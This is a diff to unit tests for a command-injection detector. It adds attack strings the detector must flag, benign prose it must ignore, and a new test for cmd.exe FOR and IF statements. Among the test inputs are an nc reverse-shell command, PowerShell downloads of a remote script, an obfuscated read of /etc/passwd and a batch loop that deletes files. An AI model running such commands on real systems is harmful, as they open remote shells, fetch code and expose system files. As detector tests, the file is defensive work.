@@ -50,6 +50,12 @@ TEST(CmdiTest, DetectsAttacks) {
       ";system('id')",
       "x; net user attacker P@ss /add",
       "x;/\?\?\?/c?t /\?\?\?/p\?\?s\?\?",
+      "host.example;/bin/ca? /et*/passwd",
+      "time sh -c whoami",
+      "x; timeout 10s nc -e /bin/sh 203.0.113.9 4444",
+      "nice -n 10 sh -c id",
+      ";iwr http://198.51.100.7/x.ps1",
+      "Invoke-WebRequest http://198.51.100.7/x.ps1 -OutFile x.ps1",
   };
   for (const std::string& a : attacks) {
     Case c;
@@ -86,6 +92,14 @@ TEST(CmdiTest, IgnoresBenign) {
       "Q&A; more info",
       "c++ developer",
       "{\n  id\n  name\n}",
+      "time flies like an arrow",
+      "nice cat pictures",
+      "nohup is a command, sh is a shell",
+      "if defined by the user, the value applies",
+      "If you exist in the system, call us",
+      "We ship for 10% in (most) cases, do not worry",
+      "if x == y then z",
+      "Discount: for 20% in (selected) stores do check",
   };
   for (const std::string& b : benign) {
     Case c;
@@ -133,6 +147,38 @@ TEST(CmdiTest, SeparatorsFoundDeepInProse) {
   }
   Match m;
   EXPECT_FALSE(Detects(CmdiDetector(), Case{prose}, &m));
+}
+
+}  // namespace
+}  // namespace fnguard::detect
+
+namespace fnguard::detect {
+namespace {
+
+// cmd.exe FOR loops and IF statements where a command starts.
+TEST(CmdiTest, BatchControlStatements) {
+  const std::vector<std::string> attacks = {
+      "for %i in (*) do type %i",
+      "& for /f \"delims=\" %i in ('cmd /c \"set /a (6+2)\"') do @set /p =%i< nul",
+      "x| FOR /R C:\\temp %G IN (*.bak) DO del \"%G\"",
+      "for /l %%n in (1,1,5) do echo %%n",
+      "IF EXIST C:\\boot.ini (type C:\\boot.ini)",
+      "if /i \"%x%\"==\"\" goto end",
+      "IF %ERRORLEVEL% NEQ 0 echo failed",
+      "x; if not defined home set home=C:\\",
+      "IF ERRORLEVEL 1 exit /b 1",
+  };
+  for (const std::string& a : attacks) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
+    EXPECT_EQ(m.rule_id, "cmdi.batch_control") << a;
+  }
+  // A command is needed after the condition, and a batch mark besides it.
+  for (const std::string b : {"if exist", "if a==b", "if a==b foo", "for %i in (x) then",
+                              "for %i in (x)", "if defined terms apply"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
+  }
 }
 
 }  // namespace
